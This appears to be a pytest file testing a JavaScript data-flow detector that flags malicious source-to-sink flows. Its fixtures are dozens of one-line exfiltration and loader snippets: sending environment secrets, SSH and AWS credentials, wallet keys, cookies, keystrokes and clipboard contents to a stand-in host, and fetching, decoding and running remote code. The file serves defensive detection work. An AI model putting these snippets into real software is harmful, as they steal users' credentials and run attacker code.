from __future__ import annotations

import pytest

from tests.javascript_flows import flows

NODE = """
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const https = require('https'), cp = require('child_process'), dns = require('dns'), zlib = require('zlib');
"""


EVERY_SOURCE_AND_SINK = [
    ("fetch('https://a.example', {body: JSON.stringify(process.env)})", "environment>network"),
    ("fetch('https://a.example', {body: JSON.stringify({...process.env})})", "environment>network"),
    ("for (const k in process.env) fetch('https://a.example/?' + process.env[k])", "environment>network"),
    ("const {env} = process; fetch(u, {body: Object.entries(env)})", "environment>network"),
    ("fetch('https://a.example/' + process.env.AWS_SECRET_ACCESS_KEY)", "environment-secret>network"),
    ("const {GITHUB_TOKEN: t} = process.env; fetch(u, {headers: {t}})", "environment-secret>network"),
    ("fetch(u, {body: process.env['NPM' + '_TOKEN']})", "npm-token>network"),
    ("fetch(u, {body: fs.readFileSync(os.homedir() + '/.npmrc')})", "credential-file>network"),
    (
        "fetch(u, {body: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))})",
        "credential-file>network",
    ),
    (
        "fs.readFile(`${os.homedir()}/.aws/credentials`, (e, d) => fetch(u, {body: d}))",
        "credential-file>network",
    ),
    ("const p = home + '/Login Data'; fetch(u, {body: fs.readFileSync(p)})", "browser-profile>network"),
    ("fetch(u, {body: fs.readFileSync(home + '/.config/solana/id.json')})", "wallet-store>network"),
    ("fetch(u, {body: wallet.mnemonic})", "secret-key>network"),
    ("fetch(u, {body: Keypair.generate().secretKey})", "secret-key>network"),
    ("class K { static fromSecretKey(k) { fetch(u, {body: k}); } }", "secret-key>network"),
    ("navigator.clipboard.readText().then((t) => fetch(u, {body: t}))", "clipboard>network"),
    ("fetch(u, {body: cp.execSync('pbpaste')})", "clipboard>network"),
    ("fetch(u, {body: document.querySelector('#pass').value})", "form-input>network"),
    ("fetch(u, {body: new FormData(form)})", "form-input>network"),
    ("document.addEventListener('keydown', (e) => fetch(u, {body: e.key}))", "form-input>network"),
    ("fetch(u, {body: document.cookie})", "cookies>network"),
    ("fetch(u, {body: localStorage.getItem('session')})", "cookies>network"),
    (
        "const p = {f(a, b) { return a(b) }}, send = (t) => fetch(u, {body: t}); p.f(send, document.cookie)",
        "cookies>network",
    ),
    ("fetch(u, {body: os.hostname()})", "host-info>network"),
    ("const {username} = os.userInfo(); fetch(u + username)", "host-info>network"),
    ("fetch(u, {body: cp.execSync('whoami').toString()})", "host-info>network"),
    ("fetch(u, {body: fs.readFileSync('/srv/report.csv')})", "file>network"),
    ("fetch(u, {body: fs.readdirSync(os.tmpdir()).join()})", "directory>network"),
    ("cp.exec('ls', (e, out) => fetch(u, {body: out}))", "command-output>network"),
    ("fetch(u).then((r) => r.text()).then((t) => eval(t))", "network>evaluate"),
    ("const r = await fetch(u); eval(await r.text())", "network>evaluate"),
    (
        "https.get(u, (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)); })",
        "network>evaluate",
    ),
    ("require('axios').get(u).then(({data}) => new Function(data)())", "network>evaluate"),
    ("require('request')(u, (e, r, body) => require('vm').runInThisContext(body))", "network>evaluate"),
    ("const ws = new WebSocket(u); ws.onmessage = (m) => eval(m.data)", "network>evaluate"),
    ("const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText)", "network>evaluate"),
    ("eval(atob(text))", "decoded>evaluate"),
    ("eval(Buffer.from(text, 'base64').toString())", "decoded>evaluate"),
    ("new Function(zlib.gunzipSync(data))()", "decoded>evaluate"),
    ("let s = ''; for (const c of data) s += String.fromCharCode(c ^ 7); eval(s)", "decoded>evaluate"),
    ("import('data:text/javascript,' + atob(text))", "decoded>evaluate"),
    ("setTimeout(atob(text), 10)", "decoded>evaluate"),
    ("module._compile(atob(text), 'a.js')", "decoded>evaluate"),
    ("dns.lookup(os.hostname() + '.a.example', () => {})", "host-info>dns"),
    ("fetch(u).then((r) => r.text()).then((t) => cp.exec(t))", "network>command"),
    ("fetch(u).then((r) => r.json()).then((j) => cp.spawn(j.cmd, j.args))", "network>command"),
    ("fetch(u).then((r) => r.text()).then((t) => fs.writeFileSync('/tmp/a.js', t))", "network>file"),
    ("https.get(u, (r) => r.pipe(fs.createWriteStream(p)))", "network>file"),
    ("require(atob(name))", "decoded>require"),
    ("fetch(u).then((r) => r.text()).then((t) => navigator.clipboard.writeText(t))", "network>clipboard"),
    ("fetch(u).then((r) => r.text()).then((t) => { el.innerHTML = t; })", "network>page"),
    ("fs.writeFileSync('.github/workflows/a.yml', 'on: push')", "embedded>workflow"),
    ("fs.appendFileSync(os.homedir() + '/.bashrc', 'echo hello')", "embedded>shell-profile"),
    ("navigator.sendBeacon(u, document.cookie)", "cookies>network"),
    ("new Image().src = 'https://a.example/?' + document.cookie", "cookies>network"),
    ("require('net').connect(1, 'a.example').write(os.hostname())", "host-info>network"),
    ("const r = https.request({host: 'a.example'}); r.write(os.hostname()); r.end()", "host-info>network"),
    ("const x = new XMLHttpRequest(); x.open('POST', u); x.send(document.cookie)", "cookies>network"),
    ("const c = require('axios').create({}); c.post(u, process.env)", "environment>network"),
    ("onkeypress = (e) => { new Image().src = 'https://a.example/?' + e.key }", "form-input>network"),
    ("fetch('https://a.example/?' + JSON.stringify(process.env))", "environment>network"),
]


@pytest.mark.parametrize(("code", "flow"), EVERY_SOURCE_AND_SINK)
def test_every_source_and_sink(code: str, flow: str) -> None:
    assert flow in flows(NODE + code), flows(NODE + code)


@pytest.mark.parametrize(
    "code",
    [
        "fs.writeFileSync('/tmp/a.js', text); cp.exec('node /tmp/a.js')",
        "const p = path.join(os.tmpdir(), 'a.js'); fs.writeFileSync(p, text); cp.spawn('node', [p])",
        "const p = path.join(os.tmpdir(), n); fs.writeFileSync(p, text); fs.chmodSync(p, 493); cp.exec(p)",
        "const p = name(); fs.writeFile(p, text, () => cp.execFile(p))",
        "const p = name(); fs.writeFileSync(p, text); require(p)",
        "const p = name(); await fs.promises.writeFile(p, text); await import(p)",
        "const save = (f) => fs.writeFileSync(f, text), run = (f) => cp.exec(f), p = name(); save(p); run(p)",
        "fs.writeFileSync(path.join(dir, 'x', 'setup.js'), text); cp.fork(path.join(dir, 'x', 'setup.js'))",
    ],
)
def test_a_file_that_is_written_and_run(code: str) -> None:
    assert "network>run-file" in flows(f"{NODE} const text = await (await fetch(u)).text(); {code}")


def test_a_download_that_is_run() -> None:
    code = """
    const to = path.join(os.tmpdir(), 'update');
    https.get('https://a.example/x', (response) => {
      const out = fs.createWriteStream(to);
      response.pipe(out);
      out.on('finish', () => { fs.chmodSync(to, 0o755); cp.spawn(to, [], {detached: true}); });
    });"""
    assert {"network>file", "network>run-file"} <= flows(NODE + code)


def test_what_is_written_comes_out_where_it_is_read() -> None:
    code = "const p = name(); fs.writeFileSync(p, os.hostname()); fetch(u, {body: fs.readFileSync(p)})"
    assert "host-info>network" in flows(NODE + code)


@pytest.mark.parametrize(
    "code",
    [
        "fetch(u, {body: process.env.NODE_ENV, headers: {p: process.env.PORT, h: process.env.HOME}})",
        "console.log(process.env.NODE_ENV); fetch('https://a.example')",
        "const o = {token: process.env.NPM_TOKEN, url: 'https://a.example'}; fetch(o.url)",
        "const o = {}; o.token = process.env.NPM_TOKEN; o.url = 'https://a.example'; fetch(o.url)",
        "http.createServer((q, r) => r.end(fs.readFileSync('/srv' + q.url))).listen(80)",
        "const app = require('express')(); app.get('/', (q, r) => r.send(os.hostname()))",
        "fetch(u, {body: require('crypto').createHash('sha256').update(os.hostname()).digest('hex')})",
        "if (fs.existsSync(os.homedir() + '/.npmrc')) fetch('https://a.example')",
        "fetch('https://a.example/' + (process.env.API_TOKEN ? 'a' : 'b'))",
        "fetch('https://a.example/' + typeof process.env.API_TOKEN)",
        "fetch('https://docs.example/.npmrc')",
        "setTimeout(() => eval2(atob(text)), 10)",
        "eval('1 + 1')",
        "fetch(u).then((r) => r.text()).then((v) => cp.spawn(path.join(os.tmpdir(), v, 'tool'), ['-v']))",
        "fetch(u).then((r) => r.text()).then((v) => cp.spawn(path.resolve(v, n), ['--version']))",
        "const c = new WebSocket(u); c.store = keys; c.store.set(os.hostname(), process.env.API_TOKEN)",
        "const o = {env: process.env}; const open = (at) => http.get(at, {}); open(o[name])",
        "cp.spawn('node', ['a.js'], {env: process.env, stdio: 'inherit'})",
        "cp.exec('ls')",
        "require('./local'); require('fs')",
        "https.get(u, (r) => r.on('data', (c) => console.log(c)))",
        "const key = crypto.randomBytes(32); fetch(u)",
    ],
)
def test_what_honest_code_does_is_no_flow(code: str) -> None:
    assert flows(NODE + code) == set()


def test_an_image_that_is_saved_is_not_run() -> None:
    code = "https.get('https://a.example/a.png', (r) => r.pipe(fs.createWriteStream('a.png'))); cp.exec('ls')"
    assert flows(NODE + code) == {"network>file"}
